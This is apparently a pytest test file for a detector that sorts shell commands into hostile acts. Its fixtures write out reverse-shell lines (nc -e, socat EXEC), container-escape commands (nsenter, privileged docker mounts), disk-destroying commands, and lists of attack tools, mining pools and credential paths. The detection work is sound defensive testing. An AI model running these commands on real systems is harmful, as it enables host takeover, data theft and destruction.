"""What single commands do: each program, each option and each word by which a deed is known."""

import re

import pytest

from policies.deed import MINERS, Deed, in_text, is_host_root, single
from policies.shell_word import Word


def of(line: str) -> list[Deed]:
    words = [Word(text) for text in line.split()]
    return list(single(words[0].text, words))


PROGRAMS = {
    Deed.ADD_USER: "useradd adduser chpasswd passwd usermod",
    Deed.ATTACK_TOOL: (
        "kube-hunter peirates cdk deepce linpeas amicontained kubeletctl botb kubesploit metasploit msfconsole "
        "msfvenom meterpreter sliver sqlmap nikto hashcat mimikatz crackmapexec gobuster pwncat chisel kdigger"
    ),
    Deed.DESTROY: "mkfs wipefs shred",
    Deed.EDIT_FIREWALL: "iptables ip6tables iptables-restore nft ipset ebtables ufw",
    Deed.EXHAUST: "stress stress-ng sysbench",
    Deed.KUBECTL: "kubectl helm oc",
    Deed.LOAD_MODULE: "insmod modprobe rmmod",
    Deed.MINE: (
        "xmrig xmrigcc xmr-stak xmr-stak-cpu xmr-stak-rx minerd cpuminer cpuminer-multi cpuminer-opt ethminer cgminer "
        "bfgminer sgminer ccminer nbminer t-rex lolminer phoenixminer gminer teamredminer nanominer srbminer-multi "
        "srbminer claymore ethdcrminer kdevtmpfsi kinsing nheqminer xmrigdaemon wildrig trex miniz bzminer rigel "
        "xmrminer"
    ),
    Deed.MOUNT: "mount",
    Deed.SCAN_NETWORK: "nmap masscan zmap rustscan arp-scan fscan naabu",
    Deed.SERVE_SHELL: "sshd dropbear ttyd gotty shellinabox shellinaboxd tmate",
    Deed.SET_KERNEL: "sysctl",
    Deed.SNIFF_NETWORK: "tcpdump tshark ettercap arpspoof dsniff bettercap hping3 mitmproxy dnschef",
    Deed.TALK_TO_RUNTIME: "docker ctr crictl nerdctl podman",
}


@pytest.mark.parametrize(
    ("program", "deed"), [(program, deed) for deed, programs in PROGRAMS.items() for program in programs.split()]
)
def test_programs_that_are_a_deed_by_themselves(program: str, deed: Deed) -> None:
    assert of(program) == [deed]


def test_miners_are_those_that_are_named_above() -> None:
    assert frozenset(PROGRAMS[Deed.MINE].split()) == MINERS


@pytest.mark.parametrize("program", ["", "ls", "nc", "rm", "apt", "curl", "wget", "python", "unshare", "xmr", "Xmrig"])
def test_programs_that_are_none(program: str) -> None:
    assert list(single(program, [Word(program)])) == []


def test_every_deed_has_words_of_its_own_that_continue_a_sentence() -> None:
    assert [deed.name for deed in Deed if not re.fullmatch(r"[a-z]{4,},? [a-zA-Z', ]+", str(deed))] == []
    assert len(set(map(str, Deed))) == len(Deed)


LINES: dict[str, list[Deed]] = {
    # installers
    "apt install x": [Deed.INSTALL_PACKAGES],
    "apt-get -y install x": [Deed.INSTALL_PACKAGES],
    "apk add x": [Deed.INSTALL_PACKAGES],
    "yum install x": [Deed.INSTALL_PACKAGES],
    "dnf install x": [Deed.INSTALL_PACKAGES],
    "microdnf install x": [Deed.INSTALL_PACKAGES],
    "tdnf install x": [Deed.INSTALL_PACKAGES],
    "zypper install x": [Deed.INSTALL_PACKAGES],
    "pip install x": [Deed.INSTALL_PACKAGES],
    "npm i x": [Deed.INSTALL_PACKAGES],
    "gem install x": [Deed.INSTALL_PACKAGES],
    "pacman -S x": [Deed.INSTALL_PACKAGES],
    "snap install x": [Deed.INSTALL_PACKAGES],
    "apt update": [],
    "echo install": [],
    "python -m pip install x": [Deed.INSTALL_PACKAGES],
    "python -m pip list": [],
    "python setup.py install": [],
    # downloads, and what is sent along
    "curl example.com": [Deed.DOWNLOAD],
    "curl --version": [],
    "curl -d x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl -T x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl -F x=y example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl --data-binary=x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl --upload-file x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl --form x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "wget --post-file=x example.com": [Deed.DOWNLOAD, Deed.SEND],
    "curl -D headers example.com": [Deed.DOWNLOAD],
    "curl example.com?-d=1": [Deed.DOWNLOAD],
    "echo -d x": [],
    # raw connections
    "nc host 80 -e sh": [Deed.REVERSE_SHELL],
    "ncat host 80 -e sh": [Deed.REVERSE_SHELL],
    "netcat host 80 -e sh": [Deed.REVERSE_SHELL],
    "nc.traditional host 80 -e sh": [Deed.REVERSE_SHELL],
    "nc.openbsd host 80 -e sh": [Deed.REVERSE_SHELL],
    "ncat --exec sh host 80": [Deed.REVERSE_SHELL],
    "ncat --exec=sh host 80": [Deed.REVERSE_SHELL],
    "ncat --sh-exec sh host 80": [Deed.REVERSE_SHELL],
    "ncat --sh-exec=sh host 80": [Deed.REVERSE_SHELL],
    "ncat --lua-exec x host 80": [Deed.REVERSE_SHELL],
    "ncat --lua-exec=x host 80": [Deed.REVERSE_SHELL],
    "ncat --verbose host 80": [],
    "nc -c /bin/bash host 80": [Deed.REVERSE_SHELL],
    "nc -c cmd.exe host 80": [Deed.REVERSE_SHELL],
    "nc -c powershell host 80": [Deed.REVERSE_SHELL],
    "nc -c login host 80": [Deed.REVERSE_SHELL],
    "nc -c cat host 80": [],
    "nc sh host 80": [],
    "nc -ze host 80": [],
    "nc -l 4444": [Deed.LISTEN],
    "ncat --listen 4444": [Deed.LISTEN],
    "nc -le sh 4444": [Deed.REVERSE_SHELL],
    "nc -z host 1-1024": [Deed.SCAN_NETWORK],
    "nc -z host 80": [],
    "nc -z host a1-2": [],
    "nc -z host 1-2b": [],
    "nc host 1-1024": [],
    "nc host 80": [],
    "socat TCP:host:1 EXEC:/bin/sh": [Deed.REVERSE_SHELL],
    "socat TCP:host:1 SYSTEM:'bash',pty": [Deed.REVERSE_SHELL],
    'socat TCP:host:1 shell:"sh"': [Deed.REVERSE_SHELL],
    "socat TCP:host:1 EXEC:/health.py": [],
    "socat TCP:host:1 EXEC:": [],
    "socat TCP:host:1 OPEN:sh": [],
    # the host
    "nsenter -t 1 -m": [Deed.ENTER_HOST],
    "nsenter -t1 -n": [Deed.ENTER_HOST],
    "nsenter -nt 1 id": [Deed.ENTER_HOST],
    "nsenter --target 1 id": [Deed.ENTER_HOST],
    "nsenter --target=1 id": [Deed.ENTER_HOST],
    "nsenter -t 12 -n id": [],
    "nsenter --target 12 -n id": [],
    "nsenter --net=/proc/1/ns/net id": [Deed.ENTER_HOST],
    "nsenter --mount=/x id": [Deed.ENTER_HOST],
    "nsenter --mount /x id": [Deed.ENTER_HOST],
    "nsenter --all id": [Deed.ENTER_HOST],
    "nsenter -m -t 12 id": [Deed.ENTER_HOST],
    "nsenter -a -t 12 id": [Deed.ENTER_HOST],
    "nsenter -at 12": [Deed.ENTER_HOST],
    "nsenter id": [],
    "unshare -UC id": [Deed.ENTER_HOST],
    "unshare -r -C id": [Deed.ENTER_HOST],
    "unshare -C id": [],
    "unshare -Ur id": [],
    "unshare --UrC id": [],
    "mount /dev/sda1 /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/vda /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/xvda /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/hda /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/nvme0n1 /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/mmcblk0 /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/dm-0 /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/mapper/x /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/disk/by-id/x /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/root /mnt": [Deed.MOUNT, Deed.ENTER_HOST],
    "mount /dev/rooted /mnt": [Deed.MOUNT],
    "mount /dev/shm /mnt": [Deed.MOUNT],
    "debugfs /dev/sda1": [Deed.ENTER_HOST],
    "debugfs -V": [],
    "mknod /x b 8 0": [Deed.ENTER_HOST],
    "mknod /x c 1 3": [],
    "sysctl kernel.core_pattern=|/x": [Deed.SET_KERNEL, Deed.ENTER_HOST],
    "sysctl kernel.core_pattern=core": [Deed.SET_KERNEL],
    "sysctl kernel.x=|/x": [Deed.SET_KERNEL],
    "docker run --privileged x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "nerdctl run --privileged x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "podman run --privileged x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "ctr run --privileged x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "crictl run --privileged x": [Deed.TALK_TO_RUNTIME],
    "docker run --pid=host x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "docker run -v /:/host x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "docker run -v /x:/host x": [Deed.TALK_TO_RUNTIME],
    "docker run --mount type=bind,src=/,dst=/h x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "docker run --mount type=bind,source=/,dst=/h x": [Deed.TALK_TO_RUNTIME, Deed.ENTER_HOST],
    "docker run --mount type=bind,src=/x,dst=/h x": [Deed.TALK_TO_RUNTIME],
    "docker run --mount src=/,dst=/h x": [Deed.TALK_TO_RUNTIME],
    "docker exec --privileged x": [Deed.TALK_TO_RUNTIME],
    # the rest
    "kubectl get secrets": [Deed.KUBECTL, Deed.READ_SECRETS],
    "kubectl get secret x": [Deed.KUBECTL, Deed.READ_SECRETS],
    "kubectl get secret/x": [Deed.KUBECTL, Deed.READ_SECRETS],
    "kubectl get secretstores": [Deed.KUBECTL],
    "kubectl delete secret x": [Deed.KUBECTL],
    "helm get secrets": [Deed.KUBECTL],
    "chmod u+s /x": [Deed.SET_UID_BIT],
    "chmod +s /x": [Deed.SET_UID_BIT],
    "chmod ug+rwxs /x": [Deed.SET_UID_BIT],
    "chmod 4755 /x": [Deed.SET_UID_BIT],
    "chmod 02755 /x": [],
    "chmod 07755 /x": [Deed.SET_UID_BIT],
    "chmod 3755 /x": [],
    "chmod 47555 /x": [],
    "chmod +sx /x": [],
    "chmod u+x /x": [],
    "rm -rf /": [Deed.DESTROY],
    "rm -R /*": [Deed.DESTROY],
    "rm -r /host": [Deed.DESTROY],
    "rm -r /host/*": [Deed.DESTROY],
    "rm -r /host/": [Deed.DESTROY],
    "rm -f /": [],
    "rm r /": [],
    "rm -rf /x": [],
    "rm /var/log/x": [Deed.CLEAR_TRACES],
    "rm -r /host/var/log": [Deed.CLEAR_TRACES],
    "dd if=/x of=/dev/sda": [Deed.DESTROY],
    "dd if=/dev/sda of=/x": [],
    "dd of=/dev/null": [],
    "history -c": [Deed.CLEAR_TRACES],
    "history": [],
    "crontab /x": [Deed.PERSIST],
    "crontab -l": [],
    "crontab": [],
    "ip route add default": [Deed.EDIT_FIREWALL],
    "ip r del default": [Deed.EDIT_FIREWALL],
    "ip rule delete x": [Deed.EDIT_FIREWALL],
    "ip route replace x": [Deed.EDIT_FIREWALL],
    "ip route show": [],
    "ip addr add x": [],
}


@pytest.mark.parametrize(("line", "deeds"), LINES.items(), ids=LINES)
def test_a_command_does(line: str, deeds: list[Deed]) -> None:
    assert of(line) == deeds


TEXTS = {
    Deed.ATTACK_TOOL: "kube-hunter",
    Deed.CLEAR_TRACES: ".bash_history histfile",
    Deed.DESTROY: "sysrq-trigger",
    Deed.ENTER_HOST: "/proc/1/root /proc/1/cwd release_agent kernel/uevent_helper",
    Deed.EXHAUST: "/dev/zero",
    Deed.MINE: (
        "stratum+tcp:// stratum+ssl:// stratum+tls:// stratum:// stratum2+tcp:// --donate-level cryptonight xmrig "
        "minexmr.com supportxmr.com moneroocean.stream hashvault.pro monerohash.com nanopool.org c3pool. 2miners.com "
        "unmineable.com f2pool.com nicehash.com minergate.com"
    ),
    Deed.READ_METADATA: "169.254.169.254 169.254.170.2 metadata.google.internal",
    Deed.READ_SECRETS: (
        "/etc/shadow /.kube/config /.aws/credentials /.ssh/id_ kubernetes/admin.conf /kubelet/pki kubernetes/pki/ "
        "/etc/gshadow /loot/ mnt/secrets/"
    ),
    Deed.READ_TOKEN: "kubernetes.io/serviceaccount/token",
    Deed.TALK_TO_RUNTIME: "/docker.sock /containerd.sock /crio.sock",
}


@pytest.mark.parametrize(("part", "deed"), [(part, deed) for deed, parts in TEXTS.items() for part in parts.split()])
def test_texts_that_say_it_all_wherever_they_stand(part: str, deed: Deed) -> None:
    assert list(in_text(f"a{part.upper()}b")) == [(deed, part)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", []),
        ("cat /x", []),
        ("/api/v1/secrets", [(Deed.READ_SECRETS, "/api/v1/secrets")]),
        ("/API/v1/namespaces/a/Secrets?x", [(Deed.READ_SECRETS, "/api/v1/secrets")]),
        ("/api/v1/namespaces/a/b/secrets", []),
        ("/api/v1/secretstores", []),
        ("secrets", []),
        ("/dev/zero xmrig", [(Deed.MINE, "xmrig"), (Deed.EXHAUST, "/dev/zero")]),
    ],
)
def test_texts(text: str, expected: list[tuple[Deed, str]]) -> None:
    assert list(in_text(text)) == expected


@pytest.mark.parametrize(
    ("folder", "expected"),
    [
        ("/mnt", True),
        ("/mnt/", True),
        ("/mnt/x", False),
        ("/host", True),
        ("/Host/etc", True),
        ("/rootfs", True),
        ("/rootfs2", False),
        ("/noderoot/", True),
        ("/nodefs", True),
        ("/node-fs", True),
        ("/proc/1/root", True),
        ("", False),
        ("/", False),
        ("/var/www", False),
    ],
)
def test_the_root_of_the_host(folder: str, *, expected: bool) -> None:
    assert is_host_root(folder, frozenset({"/mnt"})) is expected


def test_the_container_s_own_root_is_the_host_s_where_that_is_mounted_there() -> None:
    assert is_host_root("/", frozenset({""}))
